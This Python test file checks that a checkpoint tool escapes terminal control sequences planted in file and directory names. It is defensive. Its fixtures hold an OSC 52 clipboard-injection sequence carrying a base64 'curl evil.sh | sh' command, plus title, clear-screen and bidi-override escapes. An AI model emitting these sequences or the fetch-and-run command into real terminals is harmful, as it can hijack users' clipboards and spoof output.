"""Terminal escapes in another user's files never reach a terminal or a log through what minilmd prints
(minilmd/terminal.py, daemon/base/runstate.py EventLog; hostile6 F3).

A teammate's checkpoint whose manifest lists a file named with OSC 52 (the clipboard: `curl evil.sh | sh`) and a
clear screen, in a directory named with a title escape: `verify` and `export` printed both raw, and a supervisor
whose init.from is that checkpoint printed them at every retry to its stdout (the tmux window, the journal) and to
supervisor.log. Each is run for real here; what it prints holds no ESC, BEL or CSI byte, and the names are there,
escaped. click drops a CSI sequence (ESC [ ... letter) from what typer.echo writes to anything but a terminal, so
what stays recognisable there is the OSC sequence; supervisor.log, written by minilmd alone, keeps all of it.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import pty
import select
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from minilmd import names
from minilmd.config import load_config
from minilmd.corpus.progress import Progress
from minilmd.terminal import EscapingWriter
from supervisor_helpers import env_for, start_supervisor, wait_or_kill, write_config
from waiting import wait_until

CLIP = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[Hclip.bin"
TITLE = "r\x1b]0;OWNED\x07\x1b[2J"
RAW = ("\x1b", "\x07", "\x9b")
OSC_SHOWN = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"


def planted_checkpoint(root: Path, model: dict | None = None) -> Path:
    """A step directory (of `model`) whose manifest lists CLIP, missing, and the files there."""
    step = root / TITLE / "step-00000010"
    step.mkdir(parents=True)
    (step / "trainer_state.json").write_text(json.dumps({"step": 10, "config": {"model": model or {}}}))
    for name in ("model.safetensors", "optimizer.safetensors", "optimizer.json"):
        (step / name).write_bytes(b"abcd")
    files = {CLIP: {"size": 4, "sha256": "0" * 64}}
    for name in sorted(os.listdir(step)):
        body = (step / name).read_bytes()
        files[name] = {"size": len(body), "sha256": hashlib.sha256(body).hexdigest()}
    (step / "manifest.json").write_text(json.dumps({"format": "minilmd-checkpoint", "version": 1, "step": 10,
                                                    "files": files}))
    return step


def assert_escaped(said: str, *shown: str) -> None:
    assert not any(ch in said for ch in RAW), repr(said)
    for text in (OSC_SHOWN, "clip.bin", *shown):
        assert text in said, (text, said)


def minilmd(*args: str, cwd: Path) -> str:
    done = subprocess.run([sys.executable, "-m", "minilmd.cli", *args], capture_output=True, text=True,
                          timeout=300, env=env_for(fake=False), cwd=cwd)
    return done.stdout + done.stderr


def on_a_terminal(*args: str, cwd: Path) -> tuple[int, str]:
    """(exit status, what it printed) of `minilmd ARGS` with a pseudo-terminal as its stdout and stderr."""
    controller, terminal = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "minilmd.cli", *args], stdout=terminal, stderr=terminal,
                            stdin=subprocess.DEVNULL, env=env_for(fake=False), cwd=cwd)
    os.close(terminal)
    out = b""
    try:
        while select.select([controller], [], [], 300)[0]:  # nothing in 300 s: the wait below says so
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: every writer of the terminal is gone
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(controller)
    return wait_or_kill(proc, 60), out.decode(errors="replace")


@pytest.mark.slow  # real commands (export imports torch), a real supervisor
def test_verify_and_export_print_a_planted_manifest_escaped(tmp_path):
    step = planted_checkpoint(tmp_path)
    said = minilmd("verify", str(step), cwd=tmp_path)
    assert_escaped(said, "r\\x1b]0;OWNED\\x07", "missing (listed in manifest.json)")
    done = subprocess.run([sys.executable, "-m", "minilmd.cli", "verify", "--json", str(step)], capture_output=True,
                          text=True, timeout=300, env=env_for(fake=False), cwd=tmp_path)
    assert not any(ch in done.stdout for ch in RAW)
    problems = json.loads(done.stdout)["checkpoints"][0]["problems"]  # still JSON, saying the names as they are
    assert any(CLIP in problem for problem in problems) and TITLE in json.loads(done.stdout)["checkpoints"][0]["path"]
    said = minilmd("export", str(step), "--format", "minimind", "--out", str(tmp_path / "out.pth"), cwd=tmp_path)
    assert_escaped(said, "checkpoint is invalid")
    assert not (tmp_path / "out.pth").exists()


def test_verify_on_a_terminal_escapes_what_click_would_not_strip(tmp_path):
    """On a terminal click strips nothing: the CSI sequences (the clear screen) arrive too, escaped."""
    status, said = on_a_terminal("verify", str(planted_checkpoint(tmp_path)), cwd=tmp_path)
    assert status == 1, said
    assert_escaped(said, "\\x1b[2J\\x1b[Hclip.bin", "r\\x1b]0;OWNED\\x07\\x1b[2J")


@pytest.mark.slow  # real commands (export imports torch), a real supervisor
def test_the_supervisor_echoes_and_logs_a_retry_naming_a_planted_file_escaped(tmp_path, corpus):
    step = tmp_path / "theirs" / TITLE / "step-00000010"
    config = write_config(tmp_path, corpus, remote=False, init={"from": str(step)})
    planted_checkpoint(tmp_path / "theirs", load_config(config).to_dict()["model"])
    out = tmp_path / "supervisor.out"
    proc = start_supervisor(config, out)
    run_dir = tmp_path / "s" / "run"
    log = run_dir / names.SUPERVISOR_LOG
    try:
        # two tries of the init source, each naming the file: a retry printed and logged again
        wait_until(lambda: log.exists() and log.read_text(errors="replace").count("clip.bin") >= 2, 240,
                   "the init source's retries in supervisor.log")
    finally:
        proc.send_signal(signal.SIGTERM)
        wait_or_kill(proc, 120)
    assert_escaped(log.read_text(errors="replace"), "\\x1b[2J\\x1b[Hclip.bin")
    assert_escaped(out.read_text(errors="replace"), "\\x1b[2J\\x1b[Hclip.bin")
    lines = (run_dir / names.EVENTS).read_text().splitlines()
    assert any(CLIP in json.loads(line)["message"] for line in lines)  # the JSON holds the name itself, as JSON


def test_the_writer_escapes_controls_keeps_text_json_and_prepares_progress_bar():
    raw = io.StringIO()
    out = EscapingWriter(raw)
    print("名前\tok", "a" + CLIP + "\u202eevil", file=out)
    document = json.dumps({"text": "NEL\x85 DEL\x7f bidi\u202e ESC\x1b 中文"}, ensure_ascii=False, indent=1)
    print(document, file=out)
    Progress(1000, stream=out, tty=True).update(500, 10, 1, force=True)
    said = raw.getvalue()
    first, rest = said.split("\n", 1)
    assert first == "名前\tok a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x1b[Hclip.bin\\u202eevil"
    assert json.loads(rest[:rest.rindex("}") + 1]) == json.loads(document)
    assert "\x85" not in rest and "\u202e" not in rest
    bar = rest[rest.rindex("}") + 2:]
    assert bar.startswith("\r[") and bar.endswith("\x1b[K"), repr(bar)  # the bar as drawn: in place
    out.write("\r[##] forged\x1b[K\x1b]0;x\x07")  # that shape and more: escaped as any other
    assert raw.getvalue().endswith("\\r[##] forged\\x1b[K\\x1b]0;x\\x07")


@pytest.mark.parametrize("args", [["verify", "--help"], ["verify"]])
def test_help_and_usage_errors_on_a_terminal_carry_no_escaped_colours(tmp_path, args):
    """rich draws them; told it writes to no terminal, it sends no colour for the writer to show as text."""
    _, said = on_a_terminal(*args, cwd=tmp_path)
    assert "\\x1b" not in said and "\x1b" not in said and "verify" in said, said
